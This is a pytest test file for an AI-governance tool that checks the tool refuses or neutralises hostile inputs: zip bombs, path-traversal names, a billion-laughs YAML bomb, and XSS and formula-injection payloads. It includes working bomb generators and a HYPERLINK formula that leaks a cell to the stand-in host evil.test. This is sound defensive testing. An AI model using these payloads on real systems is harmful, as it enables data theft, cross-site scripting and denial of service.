"""Hostile files: zip bombs and unsafe names in audit packs, alias bombs and oversized aims.yaml,
formula payloads in CSV/XLSX, raw HTML in Markdown, script links in OSCAL (issue 12, finding 5)."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest

from aims_mlops._errors import ConfigError
from aims_mlops.config import example_config_text, parse_config
from aims_mlops.config._loader import (
    ERROR_PROBLEM,
    ERROR_TOO_DEEP,
    ERROR_TOO_LARGE,
    MAX_CONFIG_BYTES,
    MAX_DEPTH,
    MAX_EXPANDED_NODES,
    MSG_EXPANSION,
    MSG_RECURSIVE_ALIAS,
    load_config,
)
from aims_mlops.reports._pack import (
    MAX_MEMBER_BYTES,
    MAX_RATIO,
    PACK_FORMAT,
    PROBLEM_MEMBER_TOO_LARGE,
    PROBLEM_RATIO,
    PROBLEM_UNSAFE_LISTED,
    PROBLEM_UNSAFE_NAME,
    is_safe_member_name,
    verify_pack,
)

MIB = 2**20
HEAD = "version: 1\norganization: {name: x, aims_scope: y, policy_owner: z}\n"


# ------------------------------------------------------------------------------- audit packs
def _manifest(members: dict[str, int]) -> bytes:
    listed = {name: {"sha256": "0" * 64, "size": size} for name, size in members.items()}
    return json.dumps({"format": PACK_FORMAT, "members": listed}).encode()


def write_bomb(path: Path, *, mib: int) -> None:
    """A pack whose one report member inflates to ``mib`` MiB of zeros (about 1/1000 of it)."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("manifest.json", _manifest({"reports/bomb.html": mib * MIB}))
        info = zipfile.ZipInfo("reports/bomb.html")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            block = bytes(MIB)
            for _ in range(mib):
                member.write(block)


@pytest.fixture(scope="module")
def bomb_512(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("bomb") / "bomb.zip"
    write_bomb(path, mib=512)
    return path


def test_a_member_inflating_to_512_mib_is_refused_quickly_with_bounded_memory(
    bomb_512: Path,
) -> None:
    assert bomb_512.stat().st_size < 2 * MIB
    code = textwrap.dedent(
        f"""
        import json, re, time, tracemalloc
        from pathlib import Path
        from aims_mlops.reports import verify_pack
        tracemalloc.start()
        start = time.perf_counter()
        problems = verify_pack({str(bomb_512)!r})
        seconds = time.perf_counter() - start
        traced = tracemalloc.get_traced_memory()[1]
        # this process's own peak RSS (getrusage's ru_maxrss keeps the forking parent's peak)
        hwm = re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())
        peak_kib = int(hwm.group(1)) if hwm else traced // 1024
        print(json.dumps({{"problems": problems, "seconds": seconds, "peak_kib": peak_kib,
                          "traced": traced}}))
        """
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=120
    )
    out = json.loads(result.stdout)
    member = PROBLEM_MEMBER_TOO_LARGE.format(member="reports/bomb.html", limit=MAX_MEMBER_BYTES)
    assert member in out["problems"]
    assert out["seconds"] < 5
    assert out["traced"] < 16 * MIB  # a few 1 MiB chunks at most, never the member
    assert out["peak_kib"] < 200 * 1024  # the interpreter and its imports, not 512 MiB


def test_a_highly_compressed_member_is_refused_by_its_ratio(tmp_path: Path) -> None:
    pack = tmp_path / "ratio.zip"
    write_bomb(pack, mib=8)  # under the member limit, but 8 MiB of zeros compress ~1000x
    problems = verify_pack(pack)
    info = zipfile.ZipFile(pack).getinfo("reports/bomb.html")
    ratio = info.file_size // info.compress_size
    assert ratio > MAX_RATIO
    assert (
        PROBLEM_RATIO.format(member="reports/bomb.html", ratio=ratio, limit=MAX_RATIO) in problems
    )


def test_the_inflated_bytes_are_counted_even_when_the_header_is_believed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from aims_mlops.reports import _pack

    pack = tmp_path / "small.zip"
    with zipfile.ZipFile(pack, "w") as archive:
        archive.writestr("manifest.json", _manifest({"soa.json": 4096}))
        archive.writestr("soa.json", b"x" * 4096)
    # a header that lies about the size is caught by counting: simulate with a tiny limit
    monkeypatch.setattr(_pack, "_member_limit", lambda info, budget: 1000)
    problems = verify_pack(pack)
    assert PROBLEM_MEMBER_TOO_LARGE.format(member="soa.json", limit=1000) in problems


@pytest.mark.parametrize(
    "name",
    ["../evil.json", "records/../../x", "/etc/passwd", "C:/x.json", "a\\..\\b", "a//b", "./a"],
)
def test_unsafe_member_names_refuse_the_pack_unread(tmp_path: Path, name: str) -> None:
    assert not is_safe_member_name(name)
    pack = tmp_path / "names.zip"
    with zipfile.ZipFile(pack, "w") as archive:
        archive.writestr("manifest.json", _manifest({}))
        archive.writestr(name, b"{}")
    assert verify_pack(pack) == [PROBLEM_UNSAFE_NAME.format(member=name)]


def test_an_unsafe_name_in_the_manifest_is_named(tmp_path: Path) -> None:
    pack = tmp_path / "listed.zip"
    with zipfile.ZipFile(pack, "w") as archive:
        archive.writestr("manifest.json", _manifest({"../../etc/passwd": 1}))
    assert PROBLEM_UNSAFE_LISTED.format(member="../../etc/passwd") in verify_pack(pack)


def test_safe_member_names_are_accepted() -> None:
    for name in ("manifest.json", "records/abc.json", "reports/credit-scoring.html", "config/"):
        assert is_safe_member_name(name)


# ------------------------------------------------------------------------------- aims.yaml
def alias_bomb(levels: int = 9) -> str:
    """The billion-laughs document: each level an 8-item list of aliases of the level below."""
    lines = ['  a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"  a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 8) + "]")
    return HEAD + "systems:\n" + "\n".join(lines) + "\n"


def test_an_alias_bomb_is_refused_in_well_under_a_second() -> None:
    text = alias_bomb()
    assert len(text) < 8192
    start = time.perf_counter()
    with pytest.raises(ConfigError) as caught:
        parse_config(text)
    assert time.perf_counter() - start < 0.5
    message = MSG_EXPANSION.format(limit=MAX_EXPANDED_NODES)
    # the first level whose expansion passes the limit: 8**6 values at a5, line 9
    assert caught.value.problems == [
        ERROR_PROBLEM.format(source="aims.yaml", line=9, path="systems.a5", message=message)
    ]


def test_anchors_and_merge_keys_that_do_not_multiply_still_work() -> None:
    text = example_config_text()
    assert parse_config(text).systems  # the example validates as before
    reused = HEAD + "x: &x {a: 1}\ny: *x\nz: *x\n"
    with pytest.raises(ConfigError) as caught:
        parse_config(reused)
    assert all("expand" not in p for p in caught.value.problems)  # only the unknown keys


def test_a_recursive_alias_is_refused() -> None:
    with pytest.raises(ConfigError) as caught:
        parse_config("version: 1\norganization: &o {name: [*o]}\n")
    assert caught.value.problems == [
        ERROR_PROBLEM.format(
            source="aims.yaml", line=2, path="organization.name[0]", message=MSG_RECURSIVE_ALIAS
        )
    ]


def test_too_deep_a_nesting_is_refused() -> None:
    depth = MAX_DEPTH + 10
    text = HEAD + "systems: " + "[" * depth + "]" * depth + "\n"
    with pytest.raises(ConfigError) as caught:
        parse_config(text)
    assert caught.value.problems == [
        ERROR_TOO_DEEP.format(source="aims.yaml", line=3, limit=MAX_DEPTH)
    ]
    start = time.perf_counter()
    with pytest.raises(ConfigError) as caught:  # deeper than Python's own recursion
        parse_config("version: " + "[" * 5000 + "]" * 5000 + "\n")
    assert caught.value.problems == [ERROR_TOO_DEEP.format(source="aims.yaml", line=1, limit=64)]
    assert time.perf_counter() - start < 60  # linear, not exponential: generous on a busy machine


def test_an_oversized_aims_yaml_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "aims.yaml"
    path.write_text(HEAD + "# " + "x" * MAX_CONFIG_BYTES + "\n", encoding="utf-8")
    size = path.stat().st_size
    with pytest.raises(ConfigError) as caught:
        load_config(path)
    assert caught.value.problems == [
        ERROR_TOO_LARGE.format(source=str(path), size=size, limit=MAX_CONFIG_BYTES)
    ]
    with pytest.raises(ConfigError):
        parse_config(path.read_text(encoding="utf-8"))


# ------------------------------------------------------------------- formulas, HTML and links
FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
PAYLOADS = (FORMULA, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1")
SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
LINK = "[click](javascript:alert(3))"


def hostile_judgement(folder: Path, *, document: str = "javascript:alert(document.cookie)"):
    """The example configuration with formula payloads, HTML and a script link planted in the
    texts it carries into reports: SoA justifications, the organization and an owner."""
    from tests.unit.test_pack import SYSTEM, make_judgement, make_records

    text = example_config_text()
    text = text.replace(
        "justification: Credit decisions affect individuals; fairness is assessed on every run.",
        f"justification: {json.dumps(FORMULA)}",
    )
    text = text.replace("name: Example Lending Ltd", f"name: {json.dumps(SCRIPT + ' Ltd')}")
    text = text.replace(
        "owner: Head of Credit Modelling (credit-models@example-lending.test)",
        f"owner: {json.dumps(IMG + ' ' + LINK)}",
    )
    # an owner is a listed person: the hostile name is listed in people: too
    assert text.count("\npeople:\n") == 1
    text = text.replace("\npeople:\n", f"\npeople:\n  - name: {json.dumps(IMG + ' ' + LINK)}\n")
    from aims_mlops.evidence import new_record

    records = make_records()

    attested = records[0]
    records[0] = new_record(
        kind="attestation",
        system=None,
        outcome="pass",
        collector="attestation",
        controls=list(attested.controls),
        details={**attested.details, "document": document, "statement": SCRIPT},
        collected_at=attested.collected_at,
        valid_until=attested.valid_until,
    )
    folder.mkdir(parents=True, exist_ok=True)
    return make_judgement(folder, records, config_text=text), SYSTEM


def test_spreadsheet_cells_are_neutralized_as_owasp_recommends() -> None:
    from aims_mlops._escape import spreadsheet_cell

    for payload in PAYLOADS:
        assert spreadsheet_cell(payload) == "'" + payload
    for harmless in ("plain text", "", "A.5.4", "x=1"):
        assert spreadsheet_cell(harmless) == harmless
    for number in (-1, -0.5, 3, None, True):
        assert spreadsheet_cell(number) is number


def test_soa_csv_and_xlsx_hold_no_live_formula(tmp_path: Path) -> None:
    import csv
    import io

    from openpyxl import load_workbook

    from aims_mlops.cli._judgement import SOA_COLUMNS
    from aims_mlops.cli._options import render_csv
    from aims_mlops.engine import soa_rows
    from aims_mlops.reports import soa_workbook
    from aims_mlops.reports._pack import _soa_csv

    judgement, _ = hostile_judgement(tmp_path)
    rows = soa_rows(judgement.assessment)
    rows = [*rows, *({**rows[0], "justification": p, "title": p} for p in PAYLOADS)]
    for text in (render_csv(rows, [*SOA_COLUMNS, "evidence"]), _soa_csv(rows).decode()):
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert "'" + FORMULA in cells
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
    path = tmp_path / "soa.xlsx"
    path.write_bytes(soa_workbook(rows))
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # openpyxl's own XML reader turns a carriage return into a newline; with lxml it keeps it
    values = {str(c.value).replace("\r", "\n") for c in cells}
    assert all("'" + p.replace("\r", "\n") in values for p in PAYLOADS)


def _no_live_html(text: str) -> None:
    """No tag a Markdown renderer would pass through, no link with a script."""
    import re

    assert not re.search(r"<\s*(script|img)", text, re.IGNORECASE)
    assert not re.search(r"(?<!\\)\]\(javascript:", text)


def test_every_markdown_output_escapes_html_and_links(tmp_path: Path) -> None:
    from aims_mlops.cli._judgement import SOA_COLUMNS
    from aims_mlops.cli._options import render_markdown as soa_markdown
    from aims_mlops.engine import soa_rows
    from aims_mlops.reports import render_markdown
    from aims_mlops.reports._annex_iv import render_markdown as annex_markdown
    from aims_mlops.reports._audit import (
        audit_plan,
        audit_plan_markdown,
        review_pack,
        review_pack_markdown,
    )

    judgement, system = hostile_judgement(tmp_path)
    report = render_markdown(judgement, system)
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Ltd" in report
    assert "&lt;img src=x" in report and "\\[click\\](javascript:alert(3))" in report
    soa = soa_markdown(soa_rows(judgement.assessment), SOA_COLUMNS)
    plan = audit_plan_markdown(audit_plan(judgement, sample_size=3))
    review = review_pack_markdown(review_pack(judgement, register=[]))
    assert "&lt;script&gt;" in plan and "&lt;script&gt;" in review
    dossier = {
        "name": SCRIPT,
        "organization": IMG,
        "system": system,
        "model": {"name": LINK, "version": "1"},
        "evaluated_at": "2026-03-01T12:00:00Z",
        "config_digest": "0" * 64,
        "sections": [
            {
                "number": 1,
                "title": SCRIPT,
                "status": "partial",
                "facts": {"owner": IMG},
                "tables": {"rows": {"columns": ["a"], "rows": [{"a": SCRIPT + "|x"}]}},
                "missing": [LINK],
                "evidence": [SCRIPT],
            }
        ],
    }
    annex = annex_markdown(dossier)
    for text in (report, soa, plan, review, annex):
        _no_live_html(text)


def test_the_genai_markdown_section_escapes_html() -> None:
    from aims_mlops.genai._views import genai_section_markdown

    record = {"outcome": SCRIPT, "details": {"name": IMG}, "metrics": {}}
    _no_live_html(genai_section_markdown(record))


@pytest.mark.parametrize(
    ("link", "kept"),
    [
        ("https://intranet.example/policy.pdf", True),
        ("http://intranet.example/policy.pdf", True),
        ("policies/ai-policy.md", True),
        ("/srv/policies/ai-policy.md", True),
        ("#section-2", True),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(1)", False),
        ("  javascript:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox(1)", False),
        ("file:///etc/passwd", False),
        ("C:\\policies\\x.pdf", False),
        ("", False),
    ],
)
def test_safe_link_keeps_only_http_and_relative_references(link: str, kept: bool) -> None:
    from aims_mlops._escape import safe_link

    assert (safe_link(link) is not None) is kept


def test_oscal_drops_a_javascript_link_and_says_so(tmp_path: Path) -> None:
    from aims_mlops.reports._oscal import LINK_DROPPED, assessment_results

    judgement, _ = hostile_judgement(tmp_path)
    document = assessment_results(judgement)
    text = json.dumps(document)
    hrefs = _values_of(document, "href")
    assert hrefs and not [h for h in hrefs if ":" in h and not h.startswith("http")]
    assert '"href": "javascript:' not in text
    assert LINK_DROPPED in text
    kept, _ = hostile_judgement(tmp_path / "kept", document="https://intranet.example/policy")
    assert "https://intranet.example/policy" in _values_of(assessment_results(kept), "href")


def _values_of(node: object, key: str) -> list[str]:
    if isinstance(node, dict):
        found = [str(node[key])] if key in node else []
        return found + [v for child in node.values() for v in _values_of(child, key)]
    if isinstance(node, list):
        return [v for child in node for v in _values_of(child, key)]
    return []


def test_binary_garbage_and_nul_bytes_are_a_syntax_error() -> None:
    for text in ("version: 1\x00\norganization: {}\n", "\x07\x1b[31m"):
        with pytest.raises(ConfigError) as caught:
            parse_config(text)
        assert caught.value.problems[0].startswith("aims.yaml:1: YAML syntax error: ")
